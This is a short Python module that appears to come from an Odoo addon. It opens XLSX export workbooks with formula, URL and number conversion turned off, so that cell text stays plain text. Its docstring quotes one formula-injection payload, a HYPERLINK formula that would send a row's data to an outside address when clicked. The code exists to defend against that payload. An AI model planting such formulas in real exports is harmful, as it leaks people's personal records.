"""XLSX workbooks of the BDE exports.

xlsxwriter's ``write`` turns a text beginning with ``=`` into a formula and a
text that looks like an address into a link: a student, company or job named
``=HYPERLINK("https://…?"&A2&B2, "…")`` would become a live formula that sends
the row to an outside address when clicked. Every export opens its workbook
here, so that every text is written as text.
"""

from odoo.tools.misc import xlsxwriter

WORKBOOK_OPTIONS = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def text_workbook(output):
    """A workbook writing to ``output`` (a file-like object) whose ``write``
    and ``write_row`` keep every text as text."""
    return xlsxwriter.Workbook(output, WORKBOOK_OPTIONS)
